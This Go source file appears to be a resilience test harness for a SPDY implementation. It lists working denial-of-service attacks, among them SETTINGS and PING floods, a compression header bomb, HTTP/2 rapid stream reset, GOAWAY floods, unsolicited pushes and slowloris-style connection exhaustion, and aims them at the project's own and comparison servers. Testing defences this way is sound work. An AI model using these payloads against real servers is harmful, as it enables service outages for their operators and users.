package main

import (
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"net"
	"slices"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/amahi/spdy"
)

// An attack describes the bytes to send and the possible victims. The ids are those of SECURITY.md.
type attack struct {
	id, what string
	victims  []string
	deaf     bool // the attacker does not read
	play     func(w *wire)
	// many is for attacks with separate connections; it returns the outcome and the number of bytes
	// sent.
	many func(addr, victim string) (outcome string, sent int64, err error)
}

var servers = []string{ourServer, h2Server, mobyPeer}

// attacks is the list of attacks.
var attacks = []attack{
	{id: "A1", what: "SETTINGS that declare 2^32-1 entries and bring one", victims: []string{ourServer, ourClient, mobyPeer}, play: func(w *wire) {
		w.flood(1000, func(int) {
			w.control(4, 0xff, 0xff, 0xff, 0xff, 0, 0, 0, 4, 0, 0, 0, 1)
		})
	}},
	{id: "A2", what: "one header block of 100 KB that inflates to 100 MB", victims: servers, play: headerBomb},
	{id: "A3", what: "100,000 streams, none of which ends", victims: servers, play: func(w *wire) {
		w.flood(100_000, func(i int) { w.open(uint32(2*i+1), "/hang", false) })
	}},
	{id: "A4", what: "streams that are opened and reset at once", victims: servers, play: func(w *wire) {
		w.flood(1_000_000, func(i int) {
			w.open(uint32(2*i+1), "/hang", true)
			w.reset(uint32(2*i + 1))
		})
	}},
	{id: "A5", what: "streams that the victim has to reset, for a WINDOW_UPDATE of 0", victims: []string{ourServer, h2Server}, play: func(w *wire) {
		w.flood(1_000_000, func(i int) {
			id := uint32(2*i + 1)
			w.open(id, "/hang", true)
			if w.victim == h2Server {
				w.add(w.h2.WriteWindowUpdate(id, 0))
				return
			}
			w.frame(&spdy.WindowUpdateFrame{StreamID: id})
		})
	}},
	{id: "A6", what: "PINGs whose answers nobody reads", victims: victims, deaf: true, play: func(w *wire) {
		w.flood(5_000_000, func(i int) { ping(w, i) })
	}},
	{id: "A6", what: "PINGs whose answers are read", victims: victims, play: func(w *wire) {
		w.flood(5_000_000, func(i int) { ping(w, i) })
	}},
	{id: "A7", what: "empty DATA frames on an open stream", victims: servers, play: func(w *wire) {
		w.open(1, "/", false)
		w.flood(5_000_000, func(int) { w.data(1, nil) })
	}},
	{id: "A9", what: "requests of ever other priorities, faster than answers come; PRIORITY frames with HTTP/2", victims: servers, play: func(w *wire) {
		w.flood(200_000, func(i int) {
			id := uint32(2*i + 1)
			switch w.victim {
			case h2Server:
				w.add(w.h2.WritePriority(id, http2.PriorityParam{StreamDep: uint32(i % 97 * 2), Weight: uint8(i), Exclusive: i%2 == 0}))
			case mobyPeer:
				w.frame(&spdy.SynStreamFrame{StreamID: id, Flags: spdy.FlagFin, Priority: uint8(i % 8), Headers: spdy.HeaderBlock{{Name: "path", Value: "/"}}})
			default:
				w.frame(&spdy.SynStreamFrame{StreamID: id, Flags: spdy.FlagFin, Priority: uint8(i % 8), Headers: request("/")})
			}
		})
	}},
	{id: "A10", what: "streams with 16 KiB that nobody reads, then reset, faster than credit comes back", victims: servers, play: func(w *wire) {
		body := make([]byte, 16<<10)
		w.flood(20_000, func(i int) {
			id := uint32(2*i + 1)
			w.open(id, "/hang", false)
			w.data(id, body)
			w.reset(id)
		})
	}},
	{id: "A14", what: "300 connections that have asked once and are idle", victims: servers, many: idleConnections},
	{id: "A17", what: "40 connections with an answer under way that is never read", victims: servers, many: deafConnections},
	{id: "A19", what: "GOAWAYs", victims: victims, play: func(w *wire) {
		w.open(1, "/hang", false)
		w.flood(5_000_000, func(int) {
			if w.victim == h2Server {
				w.add(w.h2.WriteGoAway(0, http2.ErrCodeNo, nil))
				return
			}
			w.frame(&spdy.GoAwayFrame{LastGoodStreamID: 1<<31 - 1})
		})
	}},
	{id: "A21", what: "pushes that nobody has asked for", victims: []string{ourClient}, play: func(w *wire) {
		w.flood(500_000, func(i int) {
			w.frame(&spdy.SynStreamFrame{StreamID: uint32(2*i + 2), AssociatedStreamID: 1, Flags: spdy.FlagUnidirectional, Headers: spdy.HeaderBlock{
				{Name: ":host", Value: "attacker.example"}, {Name: ":path", Value: fmt.Sprintf("/%d", i)}, {Name: ":scheme", Value: "http"},
				{Name: ":status", Value: "200"}, {Name: ":version", Value: "HTTP/1.1"},
			}})
		})
	}},
	{id: "A23", what: "100 connections that send a byte a second", victims: servers, many: slowConnections},
}

func ping(w *wire, i int) {
	if w.victim == h2Server {
		w.add(w.h2.WritePing(false, [8]byte{1: byte(i), 2: byte(i >> 8)}))
		return
	}
	id := uint32(2*i + 1001)
	if w.victim == ourClient {
		id++
	}
	w.frame(&spdy.PingFrame{ID: id})
}

// headerBomb sends 100 MB of the same byte as the value of a header, in a zlib stream that refers
// to the dictionary only by number. With HPACK it puts a long field into the table and sends a byte
// for each repetition.
func headerBomb(w *wire) {
	if w.victim == h2Server {
		w.frames++
		w.open(1, "/", true)
		w.block.Reset()
		w.add(w.hpack.WriteField(hpack.HeaderField{Name: ":method", Value: "GET"}))
		for range 25_000 {
			w.add(w.hpack.WriteField(hpack.HeaderField{Name: "x", Value: strings.Repeat("x", 3900)}))
		}
		first := true
		for part := range slices.Chunk(w.block.Bytes(), 16<<10) {
			if first {
				w.add(w.h2.WriteHeaders(http2.HeadersFrameParam{StreamID: 3, BlockFragment: part}))
			} else {
				w.add(w.h2.WriteContinuation(3, false, part))
			}
			first = false
			w.flush()
		}
		return
	}
	const size = 100_000_000
	var block bytes.Buffer
	block.Write([]byte{0x78, 0xbb, 0xe3, 0xc6, 0xa7, 0xc2}) // zlib, and the dictionary of SPDY/3
	z, err := flate.NewWriter(&block, flate.BestCompression)
	w.add(err)
	nv := binary.BigEndian.AppendUint32(nil, 1)
	nv = append(binary.BigEndian.AppendUint32(nv, 1), 'x')
	nv = binary.BigEndian.AppendUint32(nv, size)
	_, err = z.Write(nv)
	w.add(err)
	for chunk := bytes.Repeat([]byte{'x'}, 1<<20); block.Len() < 97_000; {
		_, err := z.Write(chunk)
		w.add(err)
		w.add(z.Flush())
	}
	w.control(1, append([]byte{0, 0, 0, 1, 0, 0, 0, 0, 0, 0}, block.Bytes()...)...)
	w.frames++
	w.flush()
}

// crowd dials n connections.
func crowd(addr, victim string, n int, deaf bool, f func(i int, w *wire)) (all []*wire, err error) {
	for i := range n {
		w, err := dialVictim(addr, victim, deaf)
		if err != nil {
			return all, err
		}
		w.until = time.Now().Add(time.Minute)
		all = append(all, w)
		f(i, w)
	}
	return all, nil
}

// sum returns the bytes sent on all connections, the number of connections that the victim has
// ended, and the victim's last goodbye.
func sum(all []*wire) (sent, over int64, how string) {
	for _, w := range all {
		sent += w.sent
		if w.isOver() || w.err != nil {
			over++
		}
		w.mu.Lock()
		if w.heard != "" {
			how = w.heard + ", "
		}
		w.mu.Unlock()
		_ = w.conn.Close()
	}
	return sent, over, how
}

// borne checks connections that stay open, and returns how unless some were closed.
func borne(all []*wire, how string) (string, int64) {
	pause(500 * time.Millisecond)
	sent, over, _ := sum(all)
	if over > 0 {
		how = count(over, "connection") + " closed"
	}
	return how, sent
}

func idleConnections(addr, victim string) (string, int64, error) {
	all, err := crowd(addr, victim, 300, false, func(_ int, w *wire) {
		w.open(1, "/", true)
		w.flush()
	})
	how, sent := borne(all, "served")
	return how, sent, err
}

func deafConnections(addr, victim string) (string, int64, error) {
	all, err := crowd(addr, victim, 40, true, func(_ int, w *wire) {
		if tcp, ok := w.conn.(*net.TCPConn); ok {
			w.add(tcp.SetReadBuffer(4 << 10))
		}
		for i := range 20 {
			w.open(uint32(2*i+1), "/", true)
		}
		w.flush()
	})
	how, sent := borne(all, "survived")
	return how, sent, err
}

// slowPatience is the duration of slow connections.
const slowPatience = 13 * time.Second

func slowConnections(addr, victim string) (string, int64, error) {
	bytes := "\x80\x03\x00\x01\x00\x00\xff\x00\x00\x00\x00\x01\x00\x00\x00\x00"
	if victim == h2Server {
		bytes = http2.ClientPreface
	}
	all, err := crowd(addr, victim, 100, false, func(_ int, w *wire) { w.out.Reset() })
	if err != nil {
		return "", 0, err
	}
	start, last := time.Now(), time.Duration(0)
	tick := time.NewTicker(time.Second)
	defer tick.Stop()
	for i := 0; time.Since(start) < slowPatience; i++ {
		ended := 0
		for _, w := range all {
			if w.isOver() || w.err != nil {
				ended++
				continue
			}
			w.out.WriteByte(bytes[min(i, len(bytes)-1)])
			w.flush()
		}
		if last = time.Since(start); ended == len(all) {
			break
		}
		<-tick.C
	}
	sent, over, how := sum(all)
	if over == int64(len(all)) {
		if how == "" {
			how = "closed, "
		}
		return fmt.Sprintf("%sall after %.0f s", how, last.Seconds()), sent, nil
	}
	return fmt.Sprintf("%d of %d live after %.0f s", int64(len(all))-over, len(all), slowPatience.Seconds()), sent, nil
}

func pause(d time.Duration) { <-time.NewTimer(d).C }
